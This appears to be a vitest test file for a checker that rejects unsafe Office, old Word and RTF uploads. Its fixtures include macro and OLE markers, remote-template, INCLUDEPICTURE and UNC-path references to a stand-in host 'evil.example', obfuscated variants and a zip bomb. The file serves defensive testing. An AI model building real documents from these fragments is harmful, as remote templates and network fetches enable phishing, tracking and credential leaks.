import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { strToU8, zipSync } from "fflate";
import { expect, test } from "vitest";
import { demoMedia } from "#server/testing/test-database.ts";
import { doc, docx, packageOf } from "../../testing/test-files.ts";
import { checkOffice } from "./check-office.ts";
import { packageType } from "./office-package.ts";
import { isOldWordDocument } from "./old-word.ts";
import { demandPlainRtf } from "./rich-text.ts";

const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relation = (type: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="rId1" Type="${types}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const relations = (type: string, target: string, mode?: string) =>
  docx({ "word/_rels/document.xml.rels": relation(type, target, mode) });
const paragraph = (xml: string) =>
  docx({ "word/document.xml": `<w:document><w:body><w:p>${xml}</w:p></w:body></w:document>` });
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...inside: string[]) =>
  [char("begin"), ...inside, char("separate"), "<w:t>1</w:t>", char("end")].join("");
const contentType = (type: string) =>
  docx({
    "[Content_Types].xml": `<Types><Override PartName="/word/document.xml" ContentType="application/${type}"/></Types>`,
  });
const workbook = (parts: Record<string, string>) =>
  packageOf({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", ...parts });
const utf16 = (xml: string) => Buffer.from(`\ufeff${xml}`, "utf16le");
const compound = doc();

test.each<[string, Buffer, RegExp]>([
  ["a project of macros", docx({ "word/vbaProject.bin": "x" }), /макросы/],
  ["a project of macros under another name", relations("vbaProject", "media/image1.png", "Internal"), /макросы/],
  ["a DOCM that was renamed", contentType("vnd.ms-word.document.macroEnabled.main+xml"), /макросы/],
  ["an XLSM that was renamed", contentType("vnd.ms-excel.sheet.macroEnabled.main+xml"), /макросы/],
  ["macros of Excel 4", workbook({ "xl/macrosheets/sheet1.xml": "<m/>" }), /макросы/],
  [
    "macros in a sheet within a document",
    docx({ "word/embeddings/a.xlsx": workbook({ "xl/vbaProject.bin": "x" }) }),
    /макросы/,
  ],
  [
    "an extension of macros",
    docx({
      "[Content_Types].xml":
        '<Types><Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    }),
    /макросы/,
  ],
  ["an object by its type", contentType("vnd.openxmlformats-officedocument.oleObject"), /вложен/],
  ["ActiveX at the root", docx({ "activeX/activeX1.bin": "x" }), /вложен/],
  ["macros of Excel 4 at the root", workbook({ "MacroSheets/sheet1.xml": "<m/>" }), /макросы/],
  [
    "an object behind a mark and spaces",
    docx({ "word/a": Buffer.from('\ufeff\n <Relationship Type="oleObject"/>') }),
    /вложен/,
  ],
  ["an object of OLE", docx({ "word/embeddings/oleObject12.bin": "x" }), /вложен/],
  ["an object under the name of a picture", docx({ "word/media/image1.png": compound }), /вложен/],
  ["ActiveX", docx({ "word/activeX/activeX1.xml": "<ax:ocx/>" }), /вложен/],
  ["another file that Word reads in", relations("aFChunk", "chunk.rtf", "Internal"), /вложен/],
  [
    "an object in letters of two bytes",
    docx({ "word/_rels/a.rels": utf16('<Relationship Type="oleObject"/>') }),
    /вложен/,
  ],
  [
    "a picture of the network, strewn over runs",
    paragraph(field(instruction("INCLUDE"), instruction("PICTURE //evil/a"))),
    /из сети/,
  ],
  [
    "a text of the network in a simple field",
    paragraph('<x:fldSimple x:instr="includetext \\! http://evil.example/a"/>'),
    /из сети/,
  ],
  ["a picture of the network", paragraph(field(instruction('INCLUDEPICTURE "http://evil.example/a"'))), /из сети/],
  ["a template from the network", relations("attachedTemplate", "https://evil.example/a.dotm"), /шаблон/],
  [
    "a template from another machine",
    relations("attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm"),
    /шаблон/,
  ],
  ["a template behind escapes", relations("attachedTemplate", "%68ttps://evil.example/a.dotm"), /шаблон/],
  ["a picture from the network", relations("image", "https://evil.example/pixel.png"), /загружает/],
  ["a picture from another machine", relations("image", "\\\\evil.example\\share\\pixel.png"), /загружает/],
  [
    "a workbook on another machine",
    workbook({
      "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "//evil.example/a.xlsx"),
    }),
    /загружает/,
  ],
  [
    "data that are fetched when it opens",
    workbook({ "xl/connections.xml": '<connection refreshOnLoad="1"/>' }),
    /загружает/,
  ],
  [
    "data that are fetched when it opens, in a word",
    workbook({ "xl/connections.xml": '<connection refreshOnLoad="true"/>' }),
    /загружает/,
  ],
  [
    "a package within packages without end",
    docx({ "word/a": docx({ "word/a": docx({ "word/a": docx() }) }) }),
    /вложен/,
  ],
])("%s is refused with an explanation", (_what, bytes, words) => {
  expect(() => packageType(bytes)).toThrow(words);
});

test("parts that Word itself writes, hyperlinks and charts with their data are accepted", () => {
  const honest = docx({
    "word/_rels/document.xml.rels": relation("hyperlink", "https://site.example/").replace(
      "</",
      `<Relationship Id="rId2" Type="${types}/image" Target="file:///C:\\Temp\\msohtmlclip1\\01\\clip_image001.png" TargetMode="External"/><Relationship Id="rId3" Type="${types}/package" Target="../embeddings/Sheet.xlsx"/></`,
    ),
    "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Users\\Врач\\Templates\\Бланк.dotx"),
    "word/document.xml": `<w:p>${field(instruction(' TOC \\o "1-3" '), field(instruction(" = "), field(instruction("PAGE")), instruction("+ 1")))}${field(instruction(' HYPERLINK "https://dde.example/DDE" '))}${field(instruction(' INCLUDEPICTURE "C:\\\\Temp\\\\a.png" \\* MERGEFORMATINET \\d '))}${char("begin")}${instruction(" ")}<w:t>DDE</w:t>${char("end")}<w:fldSimple w:instr=" PAGE "/><w:t>DDEAUTO</w:t></w:p>`,
    "word/embeddings/Sheet.xlsx": workbook({ "xl/worksheets/sheet1.xml": "<worksheet/>" }),
    "word/printerSettings1.bin": "x",
  });
  expect(packageType(honest)).toBe("docx");
});

test("a sheet for each of several charts is accepted, and data fetched on request", () => {
  const sheet = workbook({ "xl/worksheets/sheet1.xml": "<worksheet/>" });
  const charts = [1, 2, 3, 4].map((chart) => [`word/embeddings/Sheet${chart}.xlsx`, sheet]);
  expect(packageType(docx(Object.fromEntries(charts)))).toBe("docx");
  const data = workbook({
    "xl/connections.xml":
      '<connections><connection refreshOnLoad="0"/><connection refreshOnLoad="false"/><connection/></connections>',
    "xl/pivotCache/pivotCacheDefinition1.xml": '<pivotCacheDefinition refreshOnLoad="1"/>',
    "xl/media/image1.png": "\u0089PNG <oleLink/>",
    "xl/oleObject1.binary.xml": "<a ContentType='macroEnabled' Type='vbaProject' TargetMode='External' Target='//a'/>",
  });
  expect(packageType(data)).toBe("xlsx");
});

test("a presentation is recognized by its main part, and nothing without a list of types", () => {
  const presentation = { "[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>" };
  expect(packageType(packageOf(presentation))).toBe("pptx");
  expect(packageType(packageOf({ "word/document.xml": "<w/>" }))).toBeUndefined();
  expect(packageType(packageOf({ "[Content_Types].xml": "<Types/>", "word/vbaProject.bin": "x" }))).toBeUndefined();
  expect(packageType(Buffer.from("PK\u0003\u0004"))).toBeUndefined();
});

test("every document of the demonstration content is accepted", async () => {
  const folder = demoMedia();
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) =>
    /\.(docx?|xlsx)$/.test(name),
  );
  expect(new Set(files.map((name) => name.split(".").at(-1)))).toEqual(new Set(["doc", "docx", "xlsx"]));
  for (const name of files) {
    const bytes = readFileSync(join(folder, name));
    if (name.endsWith(".doc")) demandPlainRtf(bytes);
    else expect(packageType(bytes), name).toBe(name.split(".").at(-1));
  }
  expect(await checkOffice(readFileSync(join(folder, files.find((name) => name.endsWith(".doc")) ?? "")))).toBe("doc");
});

test("the unpacked size of all parts is measured, whatever sizes the package declares", () => {
  const zeroes = new Uint8Array(200_000);
  const bomb = docx(Object.fromEntries(Array.from({ length: 10 }, (_, index) => [`word/media/${index}`, zeroes])));
  expect(packageType(bomb, 2_001_000)).toBe("docx");
  expect(() => packageType(bomb, 1_999_000)).toThrow("слишком большой");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(zeroes.length);
  for (let at = bomb.indexOf(size); at >= 0; at = bomb.indexOf(size)) bomb.writeUInt32LE(10, at);
  expect(() => packageType(bomb, 1_999_000)).toThrow("слишком большой");
});

test("a part that cannot be unpacked is refused with an explanation", () => {
  const locked = docx();
  locked.writeUInt16LE(1, locked.indexOf("PK\u0003\u0004") + 6);
  expect(() => packageType(locked)).toThrow("повреждён");
});

test.each<[string, Buffer, RegExp]>([
  ["macros", doc("_VBA_PROJECT"), /макросы/],
  ["macros in other letters", doc("_vba_Project_cur"), /макросы/],
  ["an object", doc("\u0001Ole"), /вложен/],
  ["a file in a wrapper", doc("\u0001Ole10Native"), /вложен/],
  [
    "a template from the network",
    Buffer.concat([doc(), Buffer.from("http://evil.example/a.dotm", "utf16le")]),
    /шаблон/,
  ],
])("an old document with %s is refused with an explanation", (_what, bytes, words) => {
  expect(() => isOldWordDocument(bytes)).toThrow(words);
});

test("an old document is accepted, also with the empty storage of objects that Word leaves in it", () => {
  expect(isOldWordDocument(doc("ObjectPool", "\u0005SummaryInformation"))).toBe(true);
  expect(isOldWordDocument(doc().subarray(0, 512))).toBe(false);
});

test.each<[string, string, RegExp]>([
  ["an object", "{\\object\\objemb{\\*\\objdata 0105}}", /вложен/],
  ["a link that is followed by itself", "{\\object\\objautlink}", /вложен/],
  ["a picture of the network", '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}', /из сети/],
  ["a picture behind words of its form", "{\\field{\\*\\fldinst{\\b\\i INCLUDEPICTURE //evil/a}}}", /из сети/],
  ["a picture in groups and numbers", "{\\field{\\*\\fldinst {\\rtlch \\u73?\\'4eCLUDEPICTURE //evil/a}}}", /из сети/],
  ["a template from the network", "{\\*\\template http://evil.example/a.dotm}", /шаблон/],
  ["a template behind a space", "{\\* \\template http://evil.example/a.dotm}", /шаблон/],
  ["a template in numbers", "{\\*\\template \\u104?\\u116?tp://evil.example/a}", /шаблон/],
])("rich text with %s is refused with an explanation", (_what, rtf, words) => {
  expect(() => demandPlainRtf(Buffer.from(`{\\rtf1${rtf}}`))).toThrow(words);
});

test("rich text with links and a template on its author's disk is accepted", () => {
  const link = '{\\field{\\*\\fldinst{HYPERLINK "https://site.example/"}}{\\fldrslt DDE}}';
  expect(() =>
    demandPlainRtf(Buffer.from(`{\\rtf1 https://site.example/ {\\*\\template C:\\\\Users\\\\a.dotm}${link}}`)),
  ).not.toThrow();
});

test("a check that exceeds its limits ends with an explanation, and the next file is checked", async () => {
  const long = docx({ "word/document.xml": `<a>${"<b/>".repeat(2_000_000)}</a>` });
  await expect(checkOffice(long, { maxTime: 50 })).rejects.toThrow("слишком сложный");
  expect(await checkOffice(docx())).toBe("docx");
  expect(await checkOffice(packageOf({ "readme.txt": "…" }))).toBeUndefined();
});

test("only the beginning of a film in a presentation is read", () => {
  const parts = { "[Content_Types].xml": strToU8("<Types/>"), "ppt/presentation.xml": strToU8("<presentation/>") };
  const film = Buffer.alloc(1_000_000, "film");
  const bytes = Buffer.from(zipSync({ ...parts, "ppt/media/film.mp4": film }, { level: 0 }));
  let read = 0;
  const subarray = (start = 0, end = bytes.length) => {
    const piece = bytes.subarray(start, end);
    read += piece.length;
    return piece;
  };
  expect(packageType({ length: bytes.length, subarray })).toBe("pptx");
  expect(read).toBeLessThan(100_000);
});
